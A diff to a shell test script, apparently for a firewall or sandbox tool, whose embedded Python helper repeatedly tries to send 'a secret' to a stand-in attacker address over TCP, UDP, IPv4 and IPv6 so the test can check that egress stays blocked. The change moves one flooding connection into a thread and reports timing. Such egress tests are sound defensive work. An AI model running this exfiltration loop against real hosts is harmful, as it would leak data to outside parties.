@@ -11,9 +11,23 @@ backends="nft iptables"
 ok as alice au new -y
 internet_up
 cat >/run/internet/try.py <<'PYTHON'
-# Tries to reach the attacker over and over, over TCP and UDP, IPv4 and IPv6, until /run/stop is there; says how often.
-import itertools, os, socket
-tried = 0
+# Tries to reach the attacker over and over, over TCP and UDP, IPv4 and IPv6, until /run/internet/stop is there; says how often.
+import itertools, os, socket, threading, time
+enough = threading.Event()
+
+def divert():
+    """One that is diverted, and closed with much still to send. It may have to wait, which the others shall not."""
+    while not enough.wait(0.2):
+        with socket.socket() as s:
+            s.settimeout(1)
+            try:
+                s.connect(("203.0.113.66", 9))
+                s.setblocking(False)
+                while True: s.send(b"a secret" * 1000)
+            except OSError: pass
+
+threading.Thread(target=divert).start()
+tried, last, longest = 0, time.monotonic(), 0
 print("trying", flush=True)
 for host, kind in itertools.cycle((h, k) for h in ("203.0.113.66", "2001:db8:2::66") for k in (socket.SOCK_STREAM, socket.SOCK_DGRAM)):
     if tried % 20 == 0 and os.path.exists("/run/internet/stop"): break
@@ -24,16 +38,10 @@ for host, kind in itertools.cycle((h, k) for h in ("203.0.113.66", "2001:db8:2::
             s.connect((host, 9))
             s.send(b"a secret")
         except OSError: pass
-    # And one that is diverted, and closed with much still to send.
-    if tried % 200 == 0:
-        with socket.socket() as s:
-            s.settimeout(1)
-            try:
-                s.connect(("203.0.113.66", 9))
-                s.setblocking(False)
-                while True: s.send(b"a secret" * 1000)
-            except OSError: pass
-print(tried)
+    longest = max(longest, time.monotonic() - last)
+    last = time.monotonic()
+enough.set()
+print(f"{tried} tries, at most {1000 * longest:.0f} ms apart")
 PYTHON
 chmod 755 /run/internet /run/internet/try.py
 
@@ -56,7 +64,7 @@ while_trying() {
 	wait $trying
 	left=$(($(on_wire) - before))
 	cp /run/internet/wire /run/internet/wire.trying
-	echo "$backend: $what: $(tail -n 1 /run/internet/tried) tries, $left packets left"
+	echo "$backend: $what: $(tail -n 1 /run/internet/tried), $left packets left"
 	e2e_status=$changed
 	[ "$changed" = 0 ] || fail "$what does not work here"
 	: >/run/internet/wire
